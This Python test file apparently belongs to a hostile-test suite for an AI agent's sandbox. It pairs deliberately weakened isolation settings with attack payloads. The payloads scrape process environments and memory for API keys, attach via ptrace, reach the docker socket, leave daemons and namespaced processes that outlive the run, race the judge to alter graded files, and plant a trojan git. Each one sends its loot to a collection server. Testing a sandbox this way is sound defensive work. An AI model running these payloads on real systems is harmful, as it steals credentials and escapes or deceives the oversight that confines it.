"""What the agent may reach: keys, tokens and credentials on the machine, other people's files, the life after its run."""

import time

from bot.sandbox.stage import MODEL_KEY
from tests.hostile.arena import (
    CONFIG,
    CREDENTIAL,
    IDENTITY_TOKEN,
    PRIVATE,
    RUNTIME_TOKEN,
    Arena,
    Attack,
    Weakness,
    arrives,
    got,
    mark_left,
    verdict_is,
)

SAME_USER = Weakness(
    "bot/agent/isolation.py",
    "    return OtherUser(root, become_root=_way_to_root(), log=log)",
    "    return SameUser(root)",
)
"""The wall between the agent and the runner's user."""
ALL_VARIABLES = Weakness(
    "bot/agent/process.py",
    'if name in PASSED_ON or name.startswith("LC_")}',
    "}",
)
NEW_PRIVILEGES = Weakness(
    "bot/agent/isolation.py",
    'drop = ("--clear-groups", "--no-new-privs", "--inh-caps=-all", "--bounding-set=-all")',
    'drop = ("--clear-groups",)',
)
KEEP_GROUPS = Weakness("bot/agent/isolation.py", 'drop = ("--clear-groups", ', 'drop = ("--keep-groups", ')
OPEN_DISK = Weakness(
    "bot/agent/isolation.py",
    "            self._close(root, log)\n            self._prove()\n",
    "            self._prove()\n",
)
ALIVE = Weakness(
    "bot/agent/isolation.py",
    "        blind, end = bool(self._become_root), time.monotonic() + 10\n",
    "        return\n        blind, end = bool(self._become_root), time.monotonic() + 10\n",
)


HEADLESS = Weakness(
    "bot/agent/uids.py", '{"Z", "X"} and fields.get("Threads", "1").strip() in {"0", "1"}', '{"Z", "X"}'
)
KILLER = Weakness(
    "bot/agent/killing.py",
    "    os.kill(-1, 9)\n",
    "    os.execv('/bin/sh', ('sh', '-c', 'sleep 0.2; kill -KILL -1'))\n",
)
"""The shell that used to do it, on a machine with much to do."""

OURS = """
def ours():  # the processes of the bot, of this run alone
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        words = look(path).split(b"\\0")
        if b"bot" in words and b"work" in words and any(word.startswith(ROOT.encode()) for word in words):
            yield int(path.split("/")[2])
"""


def _stopped(arena: Arena) -> bool:
    issue = arena.ask()
    arena.settle(issue)
    return not arena.verdict(issue).startswith("Done")


NO_SECOND_LOOK = Weakness(
    "bot/agent/isolation.py",
    "        with leftovers(self.uid, SHARED_FOLDERS) as found:",
    "        with leftovers(self.uid, ()) as found:",
)
"""The next run takes away what a killed one left; a run that ends by itself must need no such help."""


def _outlives_its_run(arena: Arena) -> bool:
    arena.settle(arena.ask())
    time.sleep(0.5)  # what was under way arrives
    before, end = len(arena.loot.named("alive")), time.monotonic() + 5
    while time.monotonic() < end:
        if len(arena.loot.named("alive")) > before:
            return True
        time.sleep(0.05)
    return False


def _two_runs(arena: Arena) -> bool:
    issue = arena.ask()
    arena.settle(issue)
    arena.stage.comment(issue, "/ai run")
    arena.settle(issue, verdicts=2)
    return bool(arena.loot.named("leftover"))


ATTACKS = (
    Attack(
        "S01 environ",
        "reads the environment of every process",
        got(MODEL_KEY),
        (SAME_USER,),
        """
for path in glob.glob("/proc/[0-9]*/environ"):
    send("environ", look(path))
""",
    ),
    Attack(
        "S01 memory",
        "reads the memory of every process",
        got(MODEL_KEY),
        (SAME_USER,),
        """
for maps in glob.glob("/proc/[0-9]*/maps"):
    pid = maps.split("/")[2]
    if pid == str(os.getpid()) or b"bot" not in look(f"/proc/{pid}/cmdline"):
        continue
    try:
        with open(maps) as lines, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in lines:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                if "rw" in line and end - start < 1 << 28:
                    try:
                        memory.seek(start)
                        for found in re.findall(b"sk-ant-[A-Za-z0-9-]{20,100}", memory.read(end - start)):
                            send("memory", found)
                    except OSError:
                        pass
    except OSError:
        pass
""",
    ),
    Attack(
        "S01 variables",
        "prints its own environment",
        got(RUNTIME_TOKEN),
        (ALL_VARIABLES,),
        'send("env", json.dumps(dict(os.environ)))',
    ),
    Attack(
        "S02 set-uid",
        "runs a set-uid program of root's on a file of root's",
        got(CREDENTIAL),
        (NEW_PRIVILEGES,),
        'send("file", subprocess.run([f"{ROOT}/reader", f"{ROOT}/credentials"], capture_output=True).stdout)',
    ),
    Attack(
        "S02 groups",
        "reads what the runner's groups may read",
        got(CREDENTIAL),
        (KEEP_GROUPS,),
        'send("file", look(f"{ROOT}/group-credentials"))',
    ),
    Attack(
        "S03 home",
        "reads credentials in the runner's home",
        got(CREDENTIAL),
        (SAME_USER,),
        f'for name in {PRIVATE!r}:\n    send("file", look(f"{{ROOT}}/runner/{{name}}"))',
    ),
    Attack(
        "S02 debugger",
        "attaches itself to the bot as a debugger",
        arrives("attached"),
        (SAME_USER,),
        OURS
        + """
import ctypes
system = ctypes.CDLL(None)
for pid in ours():
    if system.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0)
        send("attached", pid)
        system.ptrace(17, pid, 0, 0)
""",
    ),
    Attack(
        "S02 signals",
        "kills the bot, so that nobody looks at what it left",
        _stopped,
        (SAME_USER,),
        OURS
        + """
for pid in ours():
    try:
        os.kill(pid, 9)
    except PermissionError:
        pass
""",
    ),
    Attack(
        "S02 container engine",
        "connects to the socket of the container engine, which is root's",
        arrives("connected"),
        (KEEP_GROUPS,),
        """
import socket
with socket.socket(socket.AF_UNIX) as line:
    line.connect(f"{ROOT}/docker.sock")
    send("connected", "1")
""",
    ),
    Attack(
        "S13 identity",
        "asks for a token of the job's identity with the variables for it",
        got(IDENTITY_TOKEN),
        (ALL_VARIABLES,),
        'send("env", os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", ""))',
    ),
    Attack(
        "R30 daemon",
        "leaves a process behind that cuts all ties",
        _outlives_its_run,
        (ALIVE,),
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for stream in (0, 1, 2):
            os.dup2(null, stream)
        while send("alive", "1"):  # until the attacker goes home
            time.sleep(0.1)
    os._exit(0)
""",
    ),
    Attack(
        "R30 headless",
        "leaves a process behind whose first thread has ended, which looks like a zombie",
        _outlives_its_run,
        (HEADLESS,),
        """
import ctypes, threading

def go_on():
    while send("alive", "1"):
        time.sleep(0.1)

if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(null, stream)
    threading.Thread(target=go_on).start()
    ctypes.CDLL(None).pthread_exit(None)
""",
    ),
    Attack(
        "R30 namespaces",
        "leaves a process behind in namespaces of its own, where it is root and number one",
        _outlives_its_run,
        (ALIVE,),
        """
goes_on = f"import time, urllib.request as u\\nwhile u.urlopen('{LOOT}/alive', b'1'): time.sleep(0.1)"
words = ["unshare", "-Urpmf", "--mount-proc", sys.executable, "-c", goes_on]
nothing = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
subprocess.Popen(words, start_new_session=True, **nothing)
time.sleep(0.5)
""",
    ),
    Attack(
        "R66 leftovers",
        "leaves a file in /tmp for the next run",
        _two_runs,
        (
            Weakness(
                "bot/agent/isolation.py",
                '            run_short((*self._become_root, tool("find"), *folders, *_sweep(self.uid)), seconds=120)\n',
                "            del folders\n",
            ),
            NO_SECOND_LOOK,
        ),
        """
where = f"/tmp/left-by-a-run-{ROOT.replace('/', '-')}"
if os.path.exists(where):
    send("leftover", "1")
pathlib.Path(where).write_text("for the next one")
""",
    ),
    Attack(
        "R66 closed leftovers",
        "leaves a folder in /tmp that it has closed to itself, with something for the next run",
        _two_runs,
        (
            Weakness(
                "bot/agent/isolation.py",
                '(*self._become_root, tool("find"), *folders, *_sweep(self.uid))',
                '(*self._words(), tool("find"), *folders, "-xdev", "-uid", str(self.uid), "-delete")',
            ),
            NO_SECOND_LOOK,
        ),
        """
where = f"/tmp/ai-ready-closed-{ROOT.replace('/', '-')}"
if os.path.exists(where):
    send("leftover", "1")
else:
    os.mkdir(where)
    pathlib.Path(where, "note").write_text("for the next one")
    os.chmod(where, 0o555)
""",
    ),
    Attack(
        "R66 shared memory",
        "leaves shared memory behind, which has no file and outlives every process",
        _two_runs,
        (Weakness("bot/agent/closing.py", '"--mount", "--ipc", ', '"--mount", '),),
        """
import ctypes
system = ctypes.CDLL(None)
if system.shmget(MEMORY, 4096, 0) != -1:
    send("leftover", "1")
else:
    system.shmget(MEMORY, 4096, 0o1666)
""",
    ),
    Attack(
        "R30 race",
        "leaves a process behind that mends the files while they are judged",
        verdict_is("Done"),
        (ALIVE,),
        """
pathlib.Path("broken").write_text("x")
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(null, stream)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for path in glob.glob("/proc/[0-9]*/cwd"):
            try:
                where = os.readlink(path)
                if "/judge-" in where:
                    os.unlink(f"{where}/broken")
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
""",
        config=CONFIG.replace("sh check.sh", "sleep 1; sh check.sh"),
    ),
    Attack(
        "S02 programs",
        "puts a git of its own where everybody may write and PATH begins",
        mark_left("git"),
        (OPEN_DISK,),
        r"""
program = pathlib.Path(ROOT, "opt", "git")
program.write_text(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
program.chmod(0o755)
""",
    ),
    Attack(
        "S02 remounting",
        "makes itself root in a namespace of its own, and opens the disk again to put a git of its own there",
        mark_left("git"),
        (OPEN_DISK,),
        r"""
opened = pathlib.Path("open.sh")
opened.write_text(f'''
mount -o remount,bind,rw /; mount -o remount,rw /; umount -l {ROOT}; umount -l /srv
mount --bind / /tmp; mount -o remount,bind,rw /tmp
for where in {ROOT} /tmp{ROOT} /proc/1/root{ROOT}; do
  printf '#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n' > $where/opt/git && chmod 755 $where/opt/git
done
''')
subprocess.run(["unshare", "-Urm", "--propagation", "private", "sh", "open.sh"], capture_output=True)
opened.unlink()
""",
    ),
    Attack(
        "S02 killer",
        "waits for who ends it, and writes through that one's view of the disk what its own does not let it",
        mark_left("git"),
        (KILLER,),
        r"""
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(null, stream)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        newest = int(look("/proc/loadavg").split()[4])
        for pid in range(newest - 40, newest + 5):
            program = f"/proc/{pid}/root{ROOT}/opt/git"
            try:
                with open(program, "x") as file:
                    file.write(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
                os.chmod(program, 0o755)
                os._exit(0)
            except OSError:
                pass
""",
    ),
)
